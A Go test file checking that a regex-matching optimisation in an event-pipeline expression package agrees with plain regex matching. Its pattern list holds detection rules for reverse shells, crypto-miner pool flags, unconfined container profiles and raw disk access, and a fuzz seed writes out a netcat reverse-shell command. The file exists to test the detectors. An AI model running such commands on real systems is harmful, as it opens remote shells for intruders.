package expr

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/expr-lang/expr/ast"
	"pgregory.net/rapid"

	"tallyman/pipeline/event"
)

var patterns = []string{
	`(?i)/dev/(tcp|udp)/|\bn(c|cat)\b.*\s-(e|c)\s|socat\b.*exec:|mkfifo\s.*\b(nc|telnet|openssl)\b|pty\.spawn\(|(python|perl|ruby|php)[0-9.]*\b.*\bsocket\b.*\b(dup2|exec|connect)\b`,
	`(?i)stratum\+(tcp|ssl|tls)://|--donate-level|--nicehash|-o\s+\S*pool\S*:[0-9]+`,
	`^/proc/(self|[0-9]+)/fd/`,
	`(add|remove)[_ ]rule`,
	`^(seccomp|apparmor)[=:]unconfined$|^label[=:]disable$`,
	`/dev/(sd[a-z]|nvme[0-9]|vd[a-z]|xvd[a-z]|dm-[0-9]|mapper/)`,
	`(ab)+c?|(?i:SK)`, `a*bcd`, `(?i)ſk`, `x{2,3}yz`, `(a|b)(c|d)(e|f)(g|h)(i|j)`, `[^a]bc`, `(foo|)bar`, ``, `.`, `a|.*`, `(?s)q.+zz`, `\x{212a}elvin`, `(?i)kelvin`, `a\x{fffd}b`,
	`\bn(c|cat|etcat)(\.[a-z]+)?\s`, `[ -]\b(docker|podman)\b`, `x\b/a/b\b`, `x\B(ab|c_)\b|x\b\b-`, `(?i)\bk(ey|nob)\b[ /]`,
	`mkfifo\s.*\bnc|mknod\s+\S+|telnet\s`, `x(ab|cd.*|)(ef|gh)+`, `x(ab.*)+ef|x(ab.*)?eg`, `(ab.*|ac.*)b`, `\b(ab.*\b|ac)+k`,
}

func TestLiteralsOfAPattern(t *testing.T) {
	for _, c := range []struct {
		pattern string
		words   []string
		fold    bool
	}{
		{patterns[2], []string{"/proc/"}, false},
		{patterns[3], []string{"add_rule", "add rule", "remove_rule", "remove rule"}, false},
		{`a.*`, nil, false},
		{`(foo|)bar`, []string{"foobar", "bar"}, false},
		{`(?i)x.*foo`, []string{"FOO"}, true},
		{`abc|.`, nil, false},
		{`(abc)+`, []string{"abc"}, false},
		{`(abc)?`, nil, false},
		{`\bn(c|cat)(\.[a-z]+)?\s`, []string{"<nc", "<ncat"}, false},
		{`.\b(docker|podman)\b.`, []string{"<docker>", "<podman>"}, false},
		{`\b/a/b\b`, []string{"/a/b>"}, false},
		{`mkfifo\s.*x|mknod\s+\S`, []string{"mkfifo", "mknod"}, false},
		{`mkfifo.*x|mknod.*`, []string{"mkfifo", "mknod"}, false},
		{`x(ab|cd.*)(ef|gh)+`, []string{"xab", "xcd"}, false},
		{`x(a?|cd.*)ef`, []string{"ef"}, false},
		{`x(ab.*)?ef`, []string{"ef"}, false},
		{`x(ab.*)+ef`, []string{"xab"}, false},
		{`ab\b\b cd|\B\Bxy`, []string{"ab cd", "xy"}, false},
	} {
		needles, fold := literals(c.pattern)
		var words []string
		for _, n := range needles {
			w := map[bool]string{true: "<"}[n.left] + n.text + map[bool]string{true: ">"}[n.right]
			if fold {
				w = strings.ToUpper(w)
			}
			words = append(words, w)
		}
		slices.Sort(words)
		slices.Sort(c.words)
		if !slices.Equal(words, c.words) || fold != c.fold {
			t.Errorf("%s needs %q, fold %v", c.pattern, words, fold)
		}
	}
	if words, fold := literals(patterns[0]); words == nil || !fold {
		t.Errorf("the reverse-shell pattern needs %+v, fold %v", words, fold)
	}
}

// TestPatternsMatchAsTheyWould compares each pattern, with its literals before
// it, to the pattern alone, on texts that match and on others.
func TestPatternsMatchAsTheyWould(t *testing.T) {
	m := NewMachine()
	scan := &Scanner{}
	together := make([]test, len(patterns))
	for i, p := range patterns {
		together[i] = pattern(scan, itself, &ast.StringNode{Value: p})
	}
	for _, p := range patterns {
		re := regexp.MustCompile(p)
		is := pattern(nil, itself, &ast.StringNode{Value: p})
		rapid.Check(t, func(t *rapid.T) {
			s := rapid.StringMatching("(?s).{0,3}").Draw(t, "before") + rapid.StringMatching(p).Draw(t, "match")
			if rapid.Bool().Draw(t, "spoil") && s != "" {
				i := rapid.IntRange(0, len(s)-1).Draw(t, "at")
				s = s[:i] + rapid.SampledFrom([]string{"a", "A", "K", "ſ", "/", " ", "\u212a", "-", "\xff"}).Draw(t, "rune") + s[i+1:]
			}
			if rapid.Bool().Draw(t, "upper") {
				s = strings.ToUpper(s)
			}
			if got, want := is(m, s), re.MatchString(s); got != want {
				t.Fatalf("%s on %q: %v with literals, %v without", p, s, got, want)
			}
			m.Load(&event.Event{})
			for i, is := range together {
				if got, want := is(m, s), regexp.MustCompile(patterns[i]).MatchString(s); got != want {
					t.Fatalf("%s on %q: %v with the words of all, %v without", patterns[i], s, got, want)
				}
			}
		})
	}
}

// itself reads the text that a test gives.
func itself(_ *Machine, item string) string { return item }

func TestAnInvalidByteMatchesTheReplacementCharacter(t *testing.T) {
	is := pattern(nil, itself, &ast.StringNode{Value: `a\x{fffd}b`})
	if !is(NewMachine(), "a\xffb") {
		t.Error("the literal hides a match that the pattern has")
	}
}

func FuzzPattern(f *testing.F) {
	for _, p := range patterns {
		f.Add(p, "nc 192.0.2.1 -e /bin/sh")
	}
	m := NewMachine()
	f.Fuzz(func(t *testing.T, p, s string) {
		re, err := regexp.Compile(p)
		if err != nil {
			return
		}
		scan := &Scanner{}
		more := pattern(scan, itself, &ast.StringNode{Value: patterns[0]})
		for _, scan := range []*Scanner{nil, scan} {
			m.Load(&event.Event{})
			is := pattern(scan, itself, &ast.StringNode{Value: p})
			more(m, s) // what is known of a text does not hide a pattern that came later
			if got, want := is(m, s), re.MatchString(s); got != want {
				t.Fatalf("%s on %q: %v with literals, %v without", p, s, got, want)
			}
		}
	})
}
